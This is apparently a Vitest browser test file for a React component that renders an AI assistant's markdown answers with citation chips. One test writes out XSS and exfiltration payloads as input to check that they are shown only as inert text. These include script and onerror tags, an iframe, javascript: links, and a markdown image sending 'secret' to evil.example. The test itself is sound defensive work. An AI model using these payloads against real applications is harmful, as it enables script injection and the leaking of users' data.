import { describe, expect, it } from "vitest";
import { page } from "vitest/browser";
import { MemoryRouter } from "react-router";
import { render } from "vitest-browser-react";
import { Answer } from "./workspace-answer.tsx";
import type { CitationFragment } from "../../../graphql/gen/graphql.ts";
import { noteTiming } from "../../../../test/measured.ts";

const FILE = "01980000-0000-7000-8000-000000000001";
const PLACE = `([gl.pdf, page 7](/files/${FILE}#page=7))`;
const TEXT = `It says “Each Occurrence Limit $1,000,000” ${PLACE}.`;
/** The citation of a text that names its source once. */
const citing = (text: string, more: Partial<CitationFragment> = {}): CitationFragment => ({
  start: text.indexOf("“") + 1,
  end: text.indexOf("”"),
  placeStart: text.indexOf("("),
  placeEnd: text.lastIndexOf(")") + 1,
  fileId: FILE,
  page: 7,
  verdict: "VERIFIED",
  ...more,
});
const renderAnswer = async (text: string, citations: readonly CitationFragment[] = []) => {
  const { container } = await render(
    <MemoryRouter>
      <Answer citations={citations}>{text}</Answer>
    </MemoryRouter>,
  );
  return container;
};

describe("Cara's answers", () => {
  it("render lists, tables and emphasis", async () => {
    await renderAnswer("Two **things**:\n\n1. one\n2. two\n\n| Limit | Page |\n|---|---|\n| $1,000,000 | 7 |");
    await expect.element(page.getByText("things")).toHaveStyle({ fontWeight: "700" });
    expect(page.getByRole("listitem").elements()).toHaveLength(2);
    await expect.element(page.getByRole("cell", { name: "$1,000,000" })).toBeVisible();
  });

  it("[T-39] load nothing and run nothing: HTML is shown as text, an image as its alt text", async () => {
    const asked: string[] = [];
    const seen = new PerformanceObserver((list) => asked.push(...list.getEntries().map(({ name }) => name)));
    seen.observe({ type: "resource" });
    const box = await renderAnswer(
      '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(1)</script>\n\n![leak](https://evil.example/x.png?d=secret)\n\n<iframe src="https://evil.example"></iframe>\n\n[a](javascript:alert(1)) [b](data:text/html,x)',
    );
    expect(box.querySelectorAll("img, script, iframe, object, embed, link, style, video, audio")).toHaveLength(0);
    expect([...box.querySelectorAll("a")]).toEqual([]);
    expect(box.textContent).toContain("<script>alert(1)</script>");
    expect(box.textContent).toContain("leak");
    // long enough for the browser to request anything it renders
    await new Promise((done) => setTimeout(done, 300));
    seen.disconnect();
    expect(asked.filter((address) => address.includes("evil.example"))).toEqual([]);
  });

  it("show the target of a link, and open it in a new tab", async () => {
    const box = await renderAnswer("See [our carrier](https://carrier.example/x) or https://plain.example/y");
    const [first, second] = box.querySelectorAll("a");
    expect(first?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(first?.getAttribute("target")).toBe("_blank");
    expect(box.textContent).toContain("our carrier (carrier.example)");
    expect(second?.textContent).toBe("https://plain.example/y");
    expect(box.textContent).not.toContain("(plain.example)");
  });

  it("a quote that was found is marked and links to its page", async () => {
    const box = await renderAnswer(TEXT, [citing(TEXT)]);
    expect(box.querySelector("mark")?.textContent).toBe("Each Occurrence Limit $1,000,000");
    // the chip needs no brackets around it
    expect(box.textContent).toMatch(/^It says “Each Occurrence Limit \$1,000,000” Quoted: gl\.pdfp\. 7\.$/u);
    const chip = page.getByRole("link", { name: "Quoted: gl.pdf p. 7" });
    await expect
      .element(chip)
      .toHaveAttribute("href", expect.stringMatching(new RegExp(`^/app/documents/${FILE}\\?page=7#quote=`, "u")));
    await expect.element(chip).toHaveAttribute("data-evidence", "quoted");
  });

  it("a quote is shown as found where the file's name has brackets of its own", async () => {
    const text = `“Each Occurrence Limit” ([\\[Policy\\] gl.pdf, page 7](/files/${FILE}#page=7))`;
    await renderAnswer(text, [citing(text)]);
    await expect
      .element(page.getByRole("link", { name: "Quoted: [Policy] gl.pdf p. 7" }))
      .toHaveAttribute("data-evidence", "quoted");
  });

  it.each([
    ["that was not found", TEXT, [citing(TEXT, { verdict: "UNVERIFIED" })]],
    ["with too few words", TEXT, [citing(TEXT, { verdict: "TOO_SHORT" })]],
    ["that leads to another page", TEXT, [citing(TEXT, { page: 8 })]],
    ["that leads to another file", TEXT, [citing(TEXT, { fileId: "01980000-0000-7000-8000-000000000002" })]],
    ["behind another one", `(page 7) ${PLACE}`, [citing(TEXT, { placeStart: 0, placeEnd: 8, end: 1 })]],
    ["in a partial answer", TEXT, []],
  ])("a citation %s verifies nothing", async (_, text, citations) => {
    await renderAnswer(text, citations);
    await expect.element(page.getByRole("link")).toHaveAttribute("data-evidence", "unsure");
  });

  it.each([
    ["were not found", [citing(TEXT, { verdict: "UNVERIFIED" })]],
    ["are on their way", []],
  ])("quotes that %s have no mark", async (_, citations) => {
    const box = await renderAnswer(TEXT, citations);
    expect(box.querySelector("mark")).toBeNull();
  });

  it("a very long answer is shown as plain text, immediately", async () => {
    const started = performance.now();
    const box = await renderAnswer("**word** ".repeat(12_000));
    noteTiming(performance.now() - started, 1_500);
    expect(box.textContent).toContain("**word** **word**");
  });
});
